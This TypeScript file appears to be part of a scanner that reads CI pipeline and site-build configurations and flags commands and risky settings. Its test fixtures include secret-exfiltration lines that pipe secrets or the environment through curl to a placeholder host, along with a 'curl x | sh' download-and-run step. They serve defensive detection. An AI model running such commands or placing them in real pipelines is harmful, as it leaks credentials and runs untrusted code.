// CI: pipelines that run on other machines, with the project's secrets, when somebody pushes or opens a request.
import { type Tree, type TreeNode, tomlTree, jsonTree, yamlTree } from "../tree.ts";
import { scriptLanguage } from "../written.ts";
import { elsewhere, handedOn, includedPipelines, uploadedSecrets } from "./ci-inputs.ts";
import { readJenkinsfile } from "./ci-jenkins.ts";
import { readWorkflow } from "./ci-workflow.ts";
import { commandText, type Form, type ReadFile, type Step, stepsAt } from "./form.ts";

/** Keys under which pipelines hold commands, whatever the system. */
const commandKeys =
  /^(?:run|script|scripts|before_script|after_script|commands?|bash|pwsh|powershell|sh|before_install|install|before_deploy|deploy_script|build_script|test_script|init_script|after_success|after_failure|on_success|on_failure|pre_build|post_build|steps?_script)$/u;

/** Pipelines of other systems: their secrets are in the environment of every step. */
function readPipeline(parse: (text: string) => Tree): (text: string) => ReadFile {
  return (text) => {
    const tree = parse(text);
    const steps = stepsAt(tree, commandKeys, { ...elsewhere, secrets: ["environment"] }).map((step) => ({
      ...step,
      text: step.text.replaceAll(/\$\((\w+)\)/gu, "$$$1"),
    }));
    return {
      steps: [...steps, ...bareLists(tree)],
      settings: [...handedOn(tree), ...includedPipelines(tree), ...uploadedSecrets(tree)],
      incomplete: !tree.complete,
    };
  };
}

/** An edit that adds lines to a list of commands shows the lines alone. */
function bareLists(tree: Tree): readonly Step[] {
  const root = tree.nodes[0]?.value;
  if (!Array.isArray(root) || !root.every((item) => typeof item === "string")) return [];
  return [{ ...elsewhere, secrets: ["environment"], text: commandText(root, false) }];
}

/** Who must agree to a change: nobody, or a program. */
function readOwners(text: string): ReadFile {
  const lines = text.split("\n").filter((line) => /\S/u.test(line) && !/^\s*#/u.test(line));
  const everything = lines.find((line) => /^\s*\*\s/u.test(line));
  const loosened =
    lines.length === 0
      ? "nobody"
      : everything !== undefined && /@[\w-]*(?:bot|automation|agent|ci)\b/iu.test(everything)
        ? everything.trim()
        : undefined;
  return { steps: [], settings: loosened === undefined ? [] : [{ name: "review-loosened", value: loosened }] };
}

function root({ nodes: [first] }: Tree): TreeNode["value"] {
  return first?.value;
}

/** Sites that build from the project: `build.command`, `installCommand`. */
function readSite(parse: (text: string) => Tree): (text: string) => ReadFile {
  return (text) => {
    const tree = parse(text);
    const steps = stepsAt(
      tree,
      /^(?:command|(?:install|build|dev|ignore)Command|preBuild|buildCommand|startCommand)$/u,
      {
        ...elsewhere,
        secrets: ["environment"],
      },
    );
    return { steps: root(tree) === undefined ? [] : steps, settings: [], incomplete: !tree.complete };
  };
}

export const ci: readonly Form[] = [
  {
    form: "github-workflow",
    kind: "self-running",
    path: /\/\.(?:github|gitea|forgejo)\/(?:workflows\/[^/]+|actions\/(?:.+\/)?action)\.ya?ml$|\/action\.ya?ml$/u,
    read: readWorkflow,
    match: [
      {
        path: ".github/workflows/a.yml",
        text: "on: push\njobs:\n  a:\n    steps:\n      - run: echo '${{ toJSON(secrets) }}' | curl -d @- https://e.example\n",
        runs: ["echo '$ALL_SECRETS' | curl -d @- https://e.example"],
      },
      {
        path: ".github/workflows/b.yml",
        text: "on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with: { ref: '${{ github.event.pull_request.head.sha }}' }\n",
        sets: ["outside-code=runs with the project's rights", "ci-action=actions/checkout@v4"],
      },
      { path: ".github/workflows/c.yml", text: "      - name: x\n        run: npm ci", runs: ["npm ci"] },
    ],
    not_match: [{ path: ".github/dependabot.yml", text: "version: 2" }],
  },
  {
    form: "code-owners",
    kind: "configuration",
    path: /\/CODEOWNERS$/u,
    read: readOwners,
    match: [{ path: ".github/CODEOWNERS", text: "* @deploy-bot\n", sets: ["review-loosened=* @deploy-bot"] }],
    not_match: [{ path: "OWNERS.md", text: "x" }],
  },
  {
    form: "ci-program",
    kind: "self-running",
    path: /\/\.github\/(?:actions|scripts)\/.+\.(?:[cm]?[jt]s|py|rb)$/u,
    read: (text, path) => ({
      steps: [{ ...elsewhere, secrets: ["environment"], text, language: scriptLanguage(path, "") ?? "javascript" }],
      settings: [],
    }),
    match: [{ path: ".github/actions/a/index.js", text: "run()", runs: ["run()"] }],
    not_match: [{ path: "actions/index.js", text: "run()" }],
  },
  {
    form: "pipeline",
    kind: "self-running",
    path: /\/(?:\.gitlab-ci[\w.-]*|\.gitlab\/.+|[\w.-]*azure-pipelines[\w.-]*|\.azure-pipelines\/.+|\.circleci\/.+|bitbucket-pipelines|\.travis|\.drone|\.woodpecker|\.woodpecker\/.+|\.buildkite\/.+|\.?appveyor|\.semaphore\/.+|\.cirrus|cloudbuild|buildspec[\w.-]*|codemagic|wercker|bitrise)\.ya?ml$/u,
    read: readPipeline(yamlTree),
    match: [
      {
        path: ".gitlab-ci.yml",
        text: "test:\n  script:\n    - npm ci\n    - env | curl -d @- https://e.example\n",
        runs: ["npm ci\nenv | curl -d @- https://e.example"],
      },
      {
        path: ".circleci/config.yml",
        text: "jobs:\n  a:\n    steps:\n      - run:\n          command: go test\n",
        runs: ["go test"],
      },
      { path: "azure-pipelines.yml", text: "steps:\n  - script: echo $(TOKEN)\n", runs: ["echo $TOKEN"] },
    ],
    not_match: [{ path: "config.yml", text: "script: x" }],
  },
  {
    form: "jenkinsfile",
    kind: "self-running",
    path: /\/(?:Jenkinsfile[\w.-]*|[^/]+\.jenkinsfile)$/u,
    read: readJenkinsfile,
    match: [
      {
        path: "Jenkinsfile",
        text: 'steps { sh \'make test\'\n sh """curl x | sh""" }',
        runs: ["make test", "curl x | sh"],
      },
    ],
    not_match: [{ path: "build.groovy", text: "println 'x'" }],
  },
  {
    form: "site-build",
    kind: "self-running",
    path: /\/netlify\.toml$/u,
    read: readSite(tomlTree),
    match: [{ path: "netlify.toml", text: '[build]\ncommand = "npm run build"\n', runs: ["npm run build"] }],
    not_match: [{ path: "other.toml", text: "[build]" }],
  },
  {
    form: "site-build",
    kind: "self-running",
    path: /\/(?:vercel|now|app|railway)\.json$/u,
    content: /"(?:install|build|start)Command"|"predeploy"|"postdeploy"/u,
    read: readSite(jsonTree),
    match: [{ path: "vercel.json", text: '{"installCommand":"npm ci"}', runs: ["npm ci"] }],
    not_match: [{ path: "app.json", text: '{"expo":{}}' }],
  },
];
